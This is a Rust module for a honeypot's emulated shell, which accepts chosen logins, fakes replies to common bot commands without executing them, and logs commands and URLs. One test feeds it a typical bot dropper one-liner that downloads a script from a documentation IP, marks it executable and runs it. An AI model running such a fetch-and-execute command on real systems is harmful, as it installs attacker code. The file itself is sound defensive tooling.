//! Fake-shell mode (off by default): which logins a service pretends to accept, and a
//! small emulated shell that answers the commands bots run first (`uname -a`, `id`,
//! `cat /proc/cpuinfo`, downloads) with plausible output and runs nothing. Every line is
//! recorded as a command and every URL as a URL, so the session shows what the attacker
//! meant to do.
//!
//! Pure functions over text: no file, process or network access happens here.

use crate::event::Capture;

/// Which credentials a fake-shell service accepts: `user:password` pairs where either side
/// may be `*` (any). Configured as `accept = ["root:*", "admin:admin"]`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Policy {
    rules: Vec<(String, String)>,
    /// Host name shown in prompts and `uname`.
    pub hostname: String,
}

impl Policy {
    /// Parses `user:password` rules; the password may itself contain `:`.
    pub fn new(rules: &[String], hostname: &str) -> Result<Policy, String> {
        let rules = rules
            .iter()
            .map(|r| {
                r.split_once(':')
                    .map(|(u, p)| (u.to_owned(), p.to_owned()))
                    .ok_or_else(|| format!("accept rule {r:?} is not user:password"))
            })
            .collect::<Result<Vec<_>, _>>()?;
        Ok(Policy {
            rules,
            hostname: hostname.to_owned(),
        })
    }

    /// Whether `user`/`password` logs in.
    pub fn accepts(&self, user: &str, password: &str) -> bool {
        self.rules
            .iter()
            .any(|(u, p)| (u == "*" || u == user) && (p == "*" || p == password))
    }
}

/// Most input bytes buffered for one line; longer lines are cut (and still recorded).
const MAX_LINE: usize = 4096;
/// Most lines one shell answers; after that it hangs up like a tired server.
const MAX_LINES: usize = 200;

/// One emulated shell session.
#[derive(Debug)]
pub struct FakeShell {
    user: String,
    hostname: String,
    cwd: String,
    line: Vec<u8>,
    lines: usize,
    /// `true` once the attacker typed `exit` (or the line budget is spent).
    pub closed: bool,
}

impl FakeShell {
    /// A shell for `user` on `hostname`, in the user's home directory.
    pub fn new(user: &str, hostname: &str) -> FakeShell {
        let user = apiary_model::bounded::bounded(user, 32);
        let cwd = if user == "root" {
            "/root".to_owned()
        } else {
            format!("/home/{user}")
        };
        FakeShell {
            user,
            hostname: hostname.to_owned(),
            cwd,
            line: Vec::new(),
            lines: 0,
            closed: false,
        }
    }

    /// The prompt, bash style.
    pub fn prompt(&self) -> String {
        let sigil = if self.user == "root" { '#' } else { '$' };
        let dir = self.cwd.replacen(&self.home(), "~", 1);
        format!("{}@{}:{}{} ", self.user, self.hostname, dir, sigil)
    }

    fn home(&self) -> String {
        if self.user == "root" {
            "/root".into()
        } else {
            format!("/home/{}", self.user)
        }
    }

    /// Feeds bytes typed at a terminal: echoes them (as a pty would), answers each
    /// completed line, and prompts again. Returns what to send back.
    pub fn input(&mut self, data: &[u8], cap: &mut Capture) -> Vec<u8> {
        let mut out = Vec::new();
        for &b in data {
            if self.closed {
                break;
            }
            match b {
                b'\r' | b'\n' => {
                    out.extend_from_slice(b"\r\n");
                    let line = String::from_utf8_lossy(&self.line).into_owned();
                    self.line.clear();
                    let reply = self.run(&line, cap);
                    out.extend_from_slice(reply.replace('\n', "\r\n").as_bytes());
                    if !self.closed {
                        out.extend_from_slice(self.prompt().as_bytes());
                    }
                }
                // Backspace / DEL.
                0x08 | 0x7f if self.line.pop().is_some() => {
                    out.extend_from_slice(b"\x08 \x08");
                }
                // Ctrl-C: drop the line. Ctrl-D on an empty line: log out.
                0x03 => {
                    self.line.clear();
                    out.extend_from_slice(b"^C\r\n");
                    out.extend_from_slice(self.prompt().as_bytes());
                }
                0x04 if self.line.is_empty() => {
                    out.extend_from_slice(b"logout\r\n");
                    self.closed = true;
                }
                // Printable (DEL on an empty line falls through to here and is dropped).
                b if (b >= 0x20 && b != 0x7f || b == b'\t') && self.line.len() < MAX_LINE => {
                    self.line.push(b);
                    out.push(b);
                }
                _ => {}
            }
        }
        out
    }

    /// Answers one command line (which may chain commands with `;`, `&&`, `||` or `|`);
    /// records it. Output uses `\n`.
    pub fn run(&mut self, line: &str, cap: &mut Capture) -> String {
        let line = line.trim();
        if line.is_empty() {
            return String::new();
        }
        self.lines += 1;
        if self.lines > MAX_LINES {
            self.closed = true;
            return String::new();
        }
        cap.command(line);
        let mut out = String::new();
        for part in split_commands(line) {
            out.push_str(&self.one(part, cap));
            if self.closed {
                break;
            }
        }
        out
    }

    fn one(&mut self, cmd: &str, cap: &mut Capture) -> String {
        let words: Vec<&str> = cmd.split_whitespace().collect();
        let Some(&name) = words.first() else {
            return String::new();
        };
        let args = &words[1..];
        // `/bin/busybox wget` and the like: the program's base name decides.
        let base = name.rsplit('/').next().unwrap_or(name);
        let (base, args) = if base == "busybox" && !args.is_empty() {
            (args[0], &args[1..])
        } else {
            (base, args)
        };
        for a in args {
            if a.starts_with("http://") || a.starts_with("https://") || a.starts_with("ftp://") {
                record_url(cap, a);
            }
        }
        match base {
            "exit" | "logout" | "quit" => {
                self.closed = true;
                String::new()
            }
            "whoami" => format!("{}\n", self.user),
            "id" => self.id(),
            "pwd" => format!("{}\n", self.cwd),
            "hostname" => format!("{}\n", self.hostname),
            "uname" => uname(args, &self.hostname),
            "cd" => {
                let to = args.first().copied().unwrap_or("~");
                self.cwd = match to {
                    "~" => self.home(),
                    "/" => "/".into(),
                    ".." => match self.cwd.rsplit_once('/') {
                        Some(("", _)) | None => "/".into(),
                        Some((parent, _)) => parent.into(),
                    },
                    p if p.starts_with('/') => apiary_model::bounded::bounded(p, 256),
                    p => apiary_model::bounded::bounded(
                        &format!("{}/{}", self.cwd.trim_end_matches('/'), p),
                        256,
                    ),
                };
                String::new()
            }
            "ls" | "dir" => String::new(),
            "echo" => format!("{}\n", args.join(" ").trim_matches(|c| c == '"' || c == '\'')),
            "cat" => args.iter().map(|f| cat(f)).collect(),
            "uptime" => " 13:37:01 up 41 days,  3:12,  1 user,  load average: 0.08, 0.03, 0.01\n".into(),
            "nproc" => "2\n".into(),
            "free" => "               total        used        free      shared  buff/cache   available\nMem:         2030712      312448     1104236        1032      614028     1563140\nSwap:              0           0           0\n".into(),
            "w" => format!(" 13:37:01 up 41 days,  3:12,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n{:<8} pts/0    -                13:36    0.00s  0.01s  0.00s w\n", self.user),
            "ps" => "    PID TTY          TIME CMD\n   1337 pts/0    00:00:00 bash\n   1402 pts/0    00:00:00 ps\n".into(),
            "wget" => match args.iter().find(|a| a.contains("://")) {
                Some(u) => format!(
                    "--2026-01-01 13:37:01--  {u}\nResolving {h}... failed: Temporary failure in name resolution.\nwget: unable to resolve host address '{h}'\n",
                    h = host_of(u)
                ),
                None => "wget: missing URL\n".into(),
            },
            "curl" => match args.iter().find(|a| a.contains("://")) {
                Some(u) => format!("curl: (6) Could not resolve host: {}\n", host_of(u)),
                None => "curl: try 'curl --help' for more information\n".into(),
            },
            "chmod" | "export" | "unset" | "history" | "sleep" | "true" | "cp" | "mv"
            | "rm" | "mkdir" | "touch" | "kill" | "pkill" | "killall" | "crontab" => {
                String::new()
            }
            "sh" | "bash" | "su" | "sudo" if args.is_empty() => String::new(),
            "sudo" => self.one(&args.join(" "), cap),
            _ => format!(
                "-bash: {}: command not found\n",
                apiary_model::bounded::bounded(name, 64)
            ),
        }
    }

    fn id(&self) -> String {
        if self.user == "root" {
            "uid=0(root) gid=0(root) groups=0(root)\n".into()
        } else {
            format!(
                "uid=1000({u}) gid=1000({u}) groups=1000({u}),27(sudo)\n",
                u = self.user
            )
        }
    }
}

fn record_url(cap: &mut Capture, u: &str) {
    if cap.urls.len() < apiary_model::bounded::MAX_ITEMS {
        cap.urls.push(apiary_model::bounded::bounded(
            u,
            apiary_model::bounded::MEDIUM,
        ));
    }
}

/// Splits on `;`, `&&`, `||` and `|` (quotes are not honoured: this only has to look
/// right for the usual bot one-liners).
fn split_commands(line: &str) -> Vec<&str> {
    line.split([';', '|', '&'])
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect()
}

fn host_of(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let host = rest.split(['/', ':', '?']).next().unwrap_or(rest);
    apiary_model::bounded::bounded(host, 253)
}

fn uname(args: &[&str], hostname: &str) -> String {
    let all = format!(
        "Linux {hostname} 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n"
    );
    match args.first().copied() {
        Some("-a") => all,
        Some("-r") => "5.15.0-91-generic\n".into(),
        Some("-m") | Some("-p") => "x86_64\n".into(),
        Some("-n") => format!("{hostname}\n"),
        _ => "Linux\n".into(),
    }
}

fn cat(file: &str) -> String {
    match file {
        "/etc/passwd" => "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsshd:x:110:65534::/run/sshd:/usr/sbin/nologin\n".into(),
        "/proc/cpuinfo" => "processor\t: 0\nvendor_id\t: GenuineIntel\nmodel name\t: Intel(R) Xeon(R) CPU E5-2676 v3 @ 2.40GHz\ncpu MHz\t\t: 2400.042\ncache size\t: 30720 KB\n\nprocessor\t: 1\nvendor_id\t: GenuineIntel\nmodel name\t: Intel(R) Xeon(R) CPU E5-2676 v3 @ 2.40GHz\ncpu MHz\t\t: 2400.042\ncache size\t: 30720 KB\n".into(),
        "/etc/issue" => "Ubuntu 22.04.3 LTS \\n \\l\n\n".into(),
        "/etc/os-release" => "PRETTY_NAME=\"Ubuntu 22.04.3 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nID=ubuntu\n".into(),
        f => format!(
            "cat: {}: No such file or directory\n",
            apiary_model::bounded::bounded(f, 256)
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn policy_rules_and_wildcards() {
        let p = Policy::new(
            &["root:*".into(), "admin:admin".into(), "*:x:y".into()],
            "h",
        )
        .unwrap();
        assert!(p.accepts("root", "anything"));
        assert!(p.accepts("admin", "admin"));
        assert!(!p.accepts("admin", "root"));
        assert!(p.accepts("someone", "x:y"));
        assert!(!p.accepts("someone", "x"));
        assert!(Policy::new(&["nocolon".into()], "h").is_err());
    }

    #[test]
    fn bot_one_liner_is_recorded_and_answered() {
        let mut cap = Capture::default();
        let mut sh = FakeShell::new("root", "srv01");
        let out = sh.run(
            "cd /tmp; wget http://198.51.100.9/x.sh && chmod +x x.sh; ./x.sh; uname -a",
            &mut cap,
        );
        assert!(
            out.contains("unable to resolve host address '198.51.100.9'"),
            "{out}"
        );
        assert!(out.contains("-bash: ./x.sh: command not found"), "{out}");
        assert!(out.contains("Linux srv01 5.15.0"), "{out}");
        assert_eq!(cap.commands.len(), 1);
        assert_eq!(cap.urls, vec!["http://198.51.100.9/x.sh".to_owned()]);
        assert_eq!(sh.prompt(), "root@srv01:/tmp# ");
        assert!(!sh.closed);
        sh.run("exit", &mut cap);
        assert!(sh.closed);
    }

    #[test]
    fn terminal_input_echoes_edits_and_prompts() {
        let mut cap = Capture::default();
        let mut sh = FakeShell::new("pi", "raspberrypi");
        let out = sh.input(b"idd\x7f\r", &mut cap);
        let text = String::from_utf8_lossy(&out);
        assert!(text.starts_with("idd\x08 \x08\r\nuid=1000(pi)"), "{text:?}");
        assert!(text.ends_with("pi@raspberrypi:~$ "), "{text:?}");
        assert_eq!(cap.commands, vec!["id".to_owned()]);
        // DEL on an empty line changes nothing.
        assert!(sh.input(b"\x7f\x7f", &mut cap).is_empty());
        let out = sh.input(b"\x04", &mut cap);
        assert_eq!(out, b"logout\r\n");
        assert!(sh.closed);
    }

    #[test]
    fn hostile_input_is_bounded() {
        let mut cap = Capture::default();
        let mut sh = FakeShell::new(&"u".repeat(10_000), "h");
        let mut data = vec![b'A'; 100_000];
        data.push(b'\n');
        data.extend_from_slice(&[0xff, 0xfe, 0x00, 0x1b, b'\n']);
        let out = sh.input(&data, &mut cap);
        assert!(out.len() < 20_000, "{}", out.len());
        assert!(cap.commands[0].len() <= MAX_LINE);
        for _ in 0..(MAX_LINES + 5) {
            sh.run("true", &mut cap);
        }
        assert!(sh.closed);
        assert!(cap.commands.len() <= apiary_model::bounded::MAX_ITEMS);
        // Odd paths and empty chains.
        assert_eq!(sh.run(";;&&||", &mut Capture::default()), "");
    }
}
